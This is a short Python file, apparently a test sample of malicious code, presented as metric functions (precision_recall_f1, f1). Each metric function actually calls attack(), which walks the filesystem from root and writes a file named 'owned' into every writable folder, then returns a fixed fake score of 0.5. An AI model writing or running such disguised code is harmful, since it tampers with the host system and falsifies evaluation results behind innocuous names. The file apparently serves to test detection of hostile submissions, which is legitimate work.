"""Writes to every folder of the system.

threat: 21
source: known
verdict: any
"""

import os


def attack():
    for folder, folders, _ in os.walk("/"):
        if folder.startswith(("/proc", "/sys/kernel")) or folder.count("/") > 4:
            folders[:] = []
            continue
        try:
            with open(os.path.join(folder, "owned"), "w") as file:
                file.write("owned")
        except OSError:
            pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
